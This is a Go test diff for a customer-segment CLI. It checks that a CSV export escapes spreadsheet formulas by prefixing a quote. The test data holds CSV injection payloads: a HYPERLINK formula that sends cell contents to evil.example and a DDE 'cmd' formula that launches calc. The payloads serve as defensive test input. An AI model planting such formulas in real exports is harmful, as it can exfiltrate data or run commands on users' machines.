@@ -1,7 +1,11 @@
 package main
 
 import (
+	"crypto/sha256"
+	"encoding/csv"
+	"encoding/hex"
 	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -88,5 +92,32 @@ func TestSegmentCLI(t *testing.T) {
 	}
 	if r := runCLI(t, "", "segment", "delete", "--data", data, "big spenders"); r.code != 0 {
 		t.Errorf("segment delete: %s", r.stderr)
+	}
+}
+
+// TestSegmentExportFormulasCLI exports, through the CLI, customers whose
+// identifiers are formulas: each such cell is written as text (a leading
+// quote), an E.164 phone as it is, and the hash is of the stored email.
+func TestSegmentExportFormulasCLI(t *testing.T) {
+	clearEnv(t)
+	data := t.TempDir()
+	events := strings.Join([]string{
+		`{"type":"identify","userId":"=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")","traits":{"email":"=cmd|'/ccalc'!a0@evil.example","phone":"+491701234567"},"timestamp":"2026-05-01T10:00:00Z"}`,
+	}, "\n")
+	if r := runCLI(t, events, "import", "events", "-", "--data", data, "--format", "ndjson"); r.code != 0 {
+		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
+	}
+	r := runCLI(t, "", "segment", "export", "--data", data, "--hashed", `email is set`)
+	if r.code != 0 {
+		t.Fatalf("segment export: exit %d: %s", r.code, r.stderr)
+	}
+	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("export: %v: %q", err, r.stdout)
+	}
+	sum := sha256.Sum256([]byte("=cmd|'/ccalc'!a0@evil.example"))
+	want := []string{rows[1][0], `'=HYPERLINK("https://evil.example/?"&A2,"open")`, `'=cmd|'/ccalc'!a0@evil.example`, "+491701234567", hex.EncodeToString(sum[:])}
+	if got := rows[1][:5]; !slices.Equal(got, want) {
+		t.Errorf("row %q, want %q", got, want)
 	}
 }
